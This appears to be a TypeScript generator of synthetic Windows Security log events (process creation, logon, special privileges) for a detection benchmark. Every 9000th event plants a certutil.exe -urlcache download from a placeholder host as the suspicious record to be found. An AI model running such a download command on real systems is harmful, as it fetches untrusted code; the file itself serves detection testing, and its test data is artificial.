/** Makes events of the Security log in the classic text form, several lines each: what WinEventLog inputs send. */
import type { Random } from '../scripts/cloudtrail/random.ts';

const USERS = ['svc-backup', 'svc-scan', 'worker', 'helpdesk', 'WS-0042$', 'DC-01$'];
const PROGRAMS = ['svchost.exe', 'chrome.exe', 'powershell.exe', 'cmd.exe', 'conhost.exe', 'taskhostw.exe'];
/** One in so many events is what the benchmark's detection looks for. */
const RARE = 9000;
const START = Date.UTC(2024, 4, 31, 6);

/** One event, ended by no line end; `number` counts them, and time goes on with it. */
export function winlogEvent(random: Random, number: number): string {
  const rare = number % RARE === RARE - 1;
  const kind = rare ? 0 : random.below(10);
  const [code, category, lines] = kind < 4 ? started(random, rare) : kind < 8 ? logon(random) : privileges(random);
  return [
    clock(new Date(START + number * 250)),
    'LogName=Security',
    'SourceName=Microsoft Windows security auditing.',
    `EventCode=${code}`,
    'EventType=0',
    'Type=Information',
    `ComputerName=ws-${String(1 + random.below(180)).padStart(4, '0')}.corp.example`,
    `TaskCategory=${category}`,
    'OpCode=Info',
    `RecordNumber=${700_000 + number}`,
    'Keywords=Audit Success',
    ...lines,
  ].join('\n');
}

type Event = readonly [code: number, category: string, lines: readonly string[]];

function started(random: Random, rare: boolean): Event {
  const program = rare ? 'certutil.exe' : random.pick(PROGRAMS);
  const line = rare ? `certutil.exe -urlcache -f http://files.example/${random.hex(6)}` : `${program} /run ${random.hex(10)}`;
  return [
    4688,
    'Process Creation',
    [
      'Message=A new process has been created.',
      '',
      ...account('Creator Subject', random),
      ...account('Target Subject', random),
      'Process Information:',
      `\tNew Process ID:\t\t0x${random.hex(4)}`,
      `\tNew Process Name:\tC:\\Windows\\System32\\${program}`,
      '\tToken Elevation Type:\t%%1936',
      '\tMandatory Label:\t\tMandatory Label\\Medium Mandatory Level',
      `\tCreator Process ID:\t0x${random.hex(4)}`,
      `\tCreator Process Name:\tC:\\Windows\\System32\\${random.pick(PROGRAMS)}`,
      `\tProcess Command Line:\t${line}`,
      '',
      'Token Elevation Type indicates how the new process got its token: with all privileges, raised, or cut down.',
    ],
  ];
}

function logon(random: Random): Event {
  return [
    4624,
    'Logon',
    [
      'Message=An account was successfully logged on.',
      '',
      ...account('Subject', random),
      'Logon Information:',
      `\tLogon Type:\t\t${random.pick(['2', '3', '5', '10'])}`,
      '\tElevated Token:\t\tYes',
      '',
      ...account('New Logon', random),
      'Network Information:',
      `\tWorkstation Name:\tWS-${random.below(180)}`,
      `\tSource Network Address:\t10.20.${random.below(256)}.${random.below(256)}`,
      `\tSource Port:\t\t${49152 + random.below(9999)}`,
      '',
      'This event is generated when a logon session is created. It is generated on the computer that was accessed.',
    ],
  ];
}

function privileges(random: Random): Event {
  return [
    4672,
    'Special Logon',
    [
      'Message=Special privileges assigned to new logon.',
      '',
      ...account('Subject', random),
      'Privileges:\t\tSeSecurityPrivilege',
      '\t\t\tSeBackupPrivilege',
      '\t\t\tSeRestorePrivilege',
    ],
  ];
}

function account(title: string, random: Random): readonly string[] {
  return [
    `${title}:`,
    `\tSecurity ID:\t\tS-1-5-21-${random.below(1e9)}-${random.below(1e9)}-${random.below(9999)}`,
    `\tAccount Name:\t\t${random.pick(USERS)}`,
    '\tAccount Domain:\t\tCORP',
    `\tLogon ID:\t\t0x${random.hex(5).toUpperCase()}`,
    '',
  ];
}

/** `05/31/2024 06:00:00 AM`. */
function clock(date: Date): string {
  const two = (number: number): string => String(number).padStart(2, '0');
  const hour = date.getUTCHours();
  const day = `${two(date.getUTCMonth() + 1)}/${two(date.getUTCDate())}/${date.getUTCFullYear()}`;
  return `${day} ${two(hour % 12 === 0 ? 12 : hour % 12)}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())} ${hour < 12 ? 'AM' : 'PM'}`;
}
